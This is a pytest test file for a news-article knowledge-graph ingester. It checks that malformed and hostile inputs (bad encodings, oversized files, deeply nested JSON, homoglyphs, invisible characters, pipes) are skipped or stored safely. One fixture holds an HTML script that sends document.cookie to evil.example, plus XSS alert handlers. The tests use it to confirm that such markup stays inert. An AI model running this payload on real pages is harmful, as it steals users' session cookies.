"""Hostile and broken input: every bad article is reported and skipped or handled, the rest lands.

The corpus is generated into ``tmp_path`` (nothing large is kept in the repository).  One ingest
runs over all of it with a short per-article time limit; the tests then check, input by input,
what became of it.  See ``/work/notes/readme-reliability.md`` for the list and the figures.
"""

from __future__ import annotations

import datetime as dt
import json
import time
import tracemalloc
from dataclasses import dataclass
from pathlib import Path

import pyoxigraph as ox
import pytest

from kg.build import graph_iri
from kg.ingest import extract_article, ingest
from kg.readers import MAX_BYTES, Article, Skipped, read
from kg.store import Store

TIME_LIMIT = 2.5
"""Seconds one article may take in the hostile ingest."""

SLACK = 3.0
"""How far past the limit an article may run before it is cut off (the alarm waits for the running C call)."""

_GOOD = "Vietnam and Russia held talks in Hanoi on March 3, 2021."
_SCRIPT = (
    "<html><head><script>fetch('https://evil.example/?c='+document.cookie)</script></head>"
    "<body><p onclick=\"alert(1)\">Vietnam and Russia held talks in Hanoi on March 3, 2021.</p>"
    "<img src=x onerror=alert(2)></body></html>"
)


@dataclass(frozen=True)
class Case:
    """One hostile input and what must become of it.

    Attributes:
        name: file name (and, for JSON Lines, ``name:line``) as it appears in the origin.
        outcome: ``"skipped"`` with ``reason`` in the message, ``"landed"`` as an article,
            or ``"cut"``: landed or skipped for taking longer than the time limit.
        reason: part of the skip message.
    """

    name: str
    outcome: str
    reason: str = ""


def _write_corpus(folder: Path) -> list[Case]:
    """Write the hostile corpus; return what must happen to each input."""
    folder.mkdir()
    cases: list[Case] = []

    def text(name: str, data: bytes | str, outcome: str, reason: str = "") -> None:
        (folder / name).write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        cases.append(Case(name, outcome, reason))

    text("00-good.txt", f"date 2021-03-05 {_GOOD}\n\nSource: VNA", "landed")
    text("01-binary.txt", bytes(range(256)) * 64, "skipped", "binary data")
    text("02-png.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(200), "skipped", "binary data")
    # 100 MB, sparse: the size limit must reject it from its size alone.
    with (folder / "03-huge.txt").open("wb") as f:
        f.truncate(100_000_000)
    cases.append(Case("03-huge.txt", "skipped", "larger than the 20 MB limit"))
    text("04-one-mb-line.txt", ("Vietnam and Russia held talks in Hanoi on March 3 " * 20_000)[:1_000_000], "cut")
    text("05-latin1.txt", "date 2021-03-05 Caf\xe9 talks in Hanoi.".encode("latin-1"), "skipped", "not valid UTF-8 (byte 19)")
    mixed = "Hà Nội: Vietnam and Russia met. ".encode() + "Café in São Paulo.".encode("cp1252")
    text("06-mixed-encodings.txt", mixed, "skipped", f"not valid UTF-8 (byte {mixed.index(b'Caf') + 3})")
    text("07-utf16.txt", "Vietnam and Russia held talks in Hà Nội.".encode("utf-16"), "landed")
    text("08-html-script.txt", _SCRIPT, "landed")
    text("09-bad-month-day.txt", "date 2021-13-45 Talks in Hanoi.", "skipped", "not a real calendar date")
    text("10-year-zero.txt", "date 0000-01-01 Talks in Hanoi.", "skipped", "not a real calendar date")
    text("11-dates-in-text.txt", "date 2021-03-05 Vietnam and Russia held talks on 2021-13-45, on 0000-01-01, "
         "on February 30, on 31/02/2021 and in the year 0.  Japan and ASEAN held talks on March 3.", "landed")
    text("12-rtl-zero-width.txt", "date 2021-03-05 \u202bفيتنام\u202c Viet\u200bnam and \u202eRussia\u202c "
         "held\u2060 talks\u200f in Hanoi \u2067على\u2069.", "landed")
    text("13-homoglyphs.txt", "date 2021-03-05 V\u0456etnam and Ru\u0455sia held talks in Hano\u0456.", "landed")
    text("14-long-name.txt", "date 2021-03-05 Prime Minister " + "Abcdefghij" * 5_000
         + " met Vietnam's Prime Minister Pham Minh Chinh in Hanoi.", "cut")
    text("15-nested-parentheses.txt", "date 2021-03-05 " + "Vietnam (" * 2_000 + "ASEAN" + ")" * 2_000 + " met.", "cut")
    text("16-empty.txt", b"", "skipped", "empty file")
    text("17-only-invisible.txt", "\u200b\u200b\u202e\u2060", "skipped", "no article text")
    text("18-bom-crlf.txt", b"\xef\xbb\xbfdate 2021-03-05\r\nJapan and ASEAN held talks in Tokyo.\r\n\r\nSource: Kyodo", "landed")
    text("19-controls.txt", "date 2021-03-05 Japan\x01 and\x07 ASEAN\x1b[31m met\x7f in Tokyo.", "landed")
    lines = [
        json.dumps({"text": 42}),
        json.dumps({"text": None, "id": "x"}),
        json.dumps({"text": ["a", "list"]}),
        json.dumps({"id": "no-text", "title": "T"}),
        json.dumps({"text": "Japan and ASEAN met.", "url": {"href": "x"}}),
        json.dumps({"text": "Japan and ASEAN met.", "date": 20210402}),
        json.dumps({"text": "Japan and ASEAN met.", "date": "2021-13-45"}),
        json.dumps({"text": "Japan and ASEAN met.", "date": "0000-01-01"}),
        json.dumps(["an", "array"]),
        "null",
        '{"text": "truncated',
        '{"text": "lone \\ud800 surrogate"}',
        json.dumps({"text": "\u200b\u200d"}),
        "[" * 100_000,
        '{"text": ' + '{"a": ' * 50_000 + "1" + "}" * 50_000 + "}",
        json.dumps({"text": _GOOD, "url": "https://example.org/ok", "date": "2021-03-05", "id": 7}),
    ]
    reasons = ["'text' must be a string, not int", "missing or empty 'text'", "'text' must be a string, not list",
               "missing or empty 'text'", "'url' must be a string", "'date' must be a string",
               "not a real calendar date", "not a real calendar date", "JSON object", "JSON object",
               "malformed JSON", "unpaired surrogate", "missing or empty 'text'",
               "JSON nested too deeply", "JSON nested too deeply"]
    (folder / "20-lines.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    cases += [Case(f"20-lines.jsonl:{n}", "skipped", r) for n, r in enumerate(reasons, start=1)]
    cases.append(Case(f"20-lines.jsonl:{len(lines)}", "landed"))
    mixed_lines = [
        json.dumps({"text": "Laos and Japan held talks.\u2028Line separator inside a string."}, ensure_ascii=False).encode(),
        '{"text": "Caf\xe9 talks in Vientiane."}'.encode("latin-1"),
        json.dumps({"text": "Cambodia and Japan held talks in Phnom Penh."}).encode() + b"\r",
    ]
    (folder / "22-mixed.jsonl").write_bytes(b"\n".join(mixed_lines))
    cases += [Case("22-mixed.jsonl:1", "landed"), Case("22-mixed.jsonl:2", "skipped", "not valid UTF-8 (byte 13 of the line)"),
              Case("22-mixed.jsonl:3", "landed")]
    loop = folder / "21-loop"
    loop.mkdir()
    (loop / "self").symlink_to(loop, target_is_directory=True)
    (loop / "a.txt").write_text("date 2021-03-05 Thailand and Japan held talks in Bangkok.", encoding="utf-8")
    cases.append(Case("21-loop/a.txt", "landed"))
    return cases


@dataclass
class Run:
    """The outcome of ingesting the hostile corpus."""

    cases: list[Case]
    folder: Path
    store: Store
    items: list[tuple[Article | Skipped, float]]  # each item with the seconds it took
    seconds: float

    def item(self, name: str) -> tuple[Article | Skipped, float]:
        wanted = str(self.folder / name)
        # A bad date line is reported at line 1 ("file:1").
        found = [(i, s) for i, s in self.items if i.origin in (wanted, wanted + ":1")]
        assert len(found) == 1, (name, [i.origin for i, _ in self.items])
        return found[0]


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Run:
    """Ingest the hostile corpus once, timing each item."""
    base = tmp_path_factory.mktemp("hostile")
    folder = base / "in"
    cases = _write_corpus(folder)
    store = Store(base / "store")
    # Load spaCy and the vocabularies first: the limit is about each article, not kg's start-up.
    extract_article(Article(_GOOD, dt.date(2021, 3, 5), "warm-up"))
    items: list[tuple[Article | Skipped, float]] = []
    last = time.monotonic()

    def tick(item: Article | Skipped) -> None:
        nonlocal last
        now = time.monotonic()
        items.append((item, now - last))
        last = now

    start = time.monotonic()
    ingest(store, [folder], on_item=tick, time_limit=TIME_LIMIT)
    return Run(cases, folder, store, items, time.monotonic() - start)


def _case_ids() -> list[str]:
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        return [c.name for c in _write_corpus(Path(tmp) / "in")]


@pytest.mark.parametrize("name", _case_ids())
def test_each_hostile_input_is_reported_or_handled(run: Run, name: str) -> None:
    case = next(c for c in run.cases if c.name == name)
    item, seconds = run.item(name)
    if case.outcome == "skipped":
        assert isinstance(item, Skipped), item
        assert case.reason in item.reason, item.reason
    elif case.outcome == "landed":
        assert isinstance(item, Article), item
        assert run.store.has_graph(graph_iri(item))
    else:  # "cut": either it is extracted in time, or it is cut off and reported
        if isinstance(item, Skipped):
            assert item.reason == f"extraction took longer than {TIME_LIMIT:g} s", item.reason
        else:
            assert run.store.has_graph(graph_iri(item))
    assert seconds < TIME_LIMIT + SLACK, f"{name} took {seconds:.1f} s"


def test_every_input_is_accounted_for_and_the_rest_of_the_batch_lands(run: Run) -> None:
    assert len(run.items) == len(run.cases)
    articles = [i for i, _ in run.items if isinstance(i, Article)]
    stored = {str(r["a"].value) for r in run.store.query("SELECT DISTINCT ?a WHERE { ?a a kgo:Article }")}
    assert len(stored) == len(articles) >= sum(c.outcome == "landed" for c in run.cases)
    # The well-formed articles next to the hostile ones were read and extracted as usual.
    rows = run.store.query("SELECT DISTINCT ?c WHERE { ?c a kgo:Country ; kgo:mentionedIn ?s }")
    assert {r["c"].value.rsplit("/", 1)[1] for r in rows} >= {"VNM", "RUS", "THA", "JPN", "LAO", "KHM"}
    rows = run.store.query("SELECT DISTINCT ?d WHERE { ?e a kgo:Talks ; kgo:date ?d }")
    assert [r["d"].value for r in rows] == ["2021-03-03"]


def _texts(run: Run, name: str) -> list[str]:
    item, _ = run.item(name)
    assert isinstance(item, Article)
    graph = graph_iri(item)
    quads = run.store.oxigraph.quads_for_pattern(None, ox.NamedNode("https://w3id.org/aseankg/ontology#text"), None, graph)
    return sorted(q.object.value for q in quads)


def test_html_is_stored_as_inert_text_and_yields_no_markup_entities(run: Run) -> None:
    assert "".join(_texts(run, "08-html-script.txt")).replace(" ", "") == _SCRIPT.replace(" ", "")
    labels = [r["l"].value for r in run.store.query("SELECT ?l WHERE { ?x a kgo:Actor ; rdfs:label ?l }")]
    assert labels and not [label for label in labels if "<" in label or "script" in label.lower()]


def test_invisible_and_control_characters_are_removed_before_extraction(run: Run) -> None:
    text = " ".join(_texts(run, "12-rtl-zero-width.txt"))
    assert "Vietnam and Russia held talks in Hanoi" in text
    assert not any(ch in text for ch in "\u200b\u200f\u202b\u202c\u202e\u2060\u2067\u2069")
    assert " ".join(_texts(run, "19-controls.txt")) == "Japan and ASEAN[31m met in Tokyo."
    item, _ = run.item("12-rtl-zero-width.txt")
    assert isinstance(item, Article)
    rows = run.store.query(
        "SELECT ?g ?c WHERE { GRAPH ?g { ?c a kgo:Country } }", {"g": graph_iri(item)}
    )
    assert {r["c"].value.rsplit("/", 1)[1] for r in rows} >= {"VNM", "RUS"}


def test_lookalike_letters_do_not_pass_for_the_real_names(run: Run) -> None:
    item, _ = run.item("13-homoglyphs.txt")
    assert isinstance(item, Article)
    rows = run.store.query("SELECT ?g ?x ?l WHERE { GRAPH ?g { ?x a kgo:Actor ; rdfs:label ?l } }", {"g": graph_iri(item)})
    spoofed = {(r["x"].value, r["l"].value) for r in rows}
    # Neither merged into Vietnam or Russia, nor minted as actors that display like them.
    assert not [x for x, _ in spoofed if x.endswith(("/VNM", "/RUS"))]
    assert not [label for _, label in spoofed if "\u0456" in label or "\u0455" in label]


def test_impossible_dates_in_the_text_give_no_date_values(run: Run) -> None:
    item, _ = run.item("11-dates-in-text.txt")
    assert isinstance(item, Article)
    rows = run.store.query(
        "SELECT ?g ?d WHERE { GRAPH ?g { ?e ?p ?d FILTER(DATATYPE(?d) IN (xsd:date, xsd:gYearMonth, xsd:gYear)) } }",
        {"g": graph_iri(item)},
    )
    # The article's own date (datePublished) and the one real date, nothing from the impossible ones.
    assert sorted({r["d"].value for r in rows}) == ["2021-03-03", "2021-03-05"]


def test_the_store_holds_only_valid_literals_after_the_hostile_batch(run: Run) -> None:
    from kg.validate import validate

    result = validate(run.store)
    assert result.conforms, result.report[:2000]


def test_a_100_mb_file_is_rejected_from_its_size_without_being_read(tmp_path: Path) -> None:
    big = tmp_path / "big.txt"
    with big.open("wb") as f:
        f.truncate(5 * MAX_BYTES)
    tracemalloc.start()
    start = time.perf_counter()
    (item,) = list(read([big]))
    seconds = time.perf_counter() - start
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert isinstance(item, Skipped) and item.reason == "100 MB is larger than the 20 MB limit"
    assert seconds < 0.5 and peak < 1_000_000


def test_a_file_growing_past_the_limit_after_stat_is_cut_at_the_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import kg.readers

    f = tmp_path / "grows.txt"
    f.write_bytes(b"x" * 2_000)
    monkeypatch.setattr(kg.readers, "MAX_BYTES", 1_000)
    real_stat = Path.stat

    def small_stat(self: Path, **kw: object) -> object:
        result = real_stat(self, **kw)  # type: ignore[arg-type]
        if self == f:
            import os

            return os.stat_result((result.st_mode, 0, 0, 0, 0, 0, 10, 0, 0, 0))
        return result

    monkeypatch.setattr(Path, "stat", small_stat)
    (item,) = list(read([f]))
    assert isinstance(item, Skipped) and "larger than" in item.reason


def test_the_per_article_time_limit_cuts_off_a_pathological_article(tmp_path: Path) -> None:
    slow = tmp_path / "in"
    slow.mkdir()
    (slow / "a-slow.txt").write_text("date 2021-03-05 " + "Vietnam and Russia held talks in Hanoi on March 3 " * 2_000, encoding="utf-8")
    (slow / "b-fine.txt").write_text(f"date 2021-03-05 {_GOOD}", encoding="utf-8")
    store = Store(None)
    extract_article(Article(_GOOD, dt.date(2021, 3, 5), "warm-up"))
    start = time.monotonic()
    report = ingest(store, [slow], time_limit=1.0)
    seconds = time.monotonic() - start
    assert [(s.origin.rsplit("/", 1)[1], s.reason) for s in report.skipped] == [
        ("a-slow.txt", "extraction took longer than 1 s")
    ]
    assert report.added == 1
    assert seconds < 1.0 + SLACK


def test_pipes_and_devices_are_reported_without_being_read(tmp_path: Path) -> None:
    import os

    fifo = tmp_path / "pipe.txt"
    os.mkfifo(fifo)  # reading it would block forever
    start = time.perf_counter()
    items = list(read([fifo, Path("/dev/zero"), tmp_path / "missing.txt"]))
    assert time.perf_counter() - start < 1
    assert [(Path(i.origin).name, i.reason) for i in items if isinstance(i, Skipped)] == [
        ("pipe.txt", "not a regular file or folder"),
        ("zero", "not a regular file or folder"),
        ("missing.txt", "no such file or folder"),
    ]
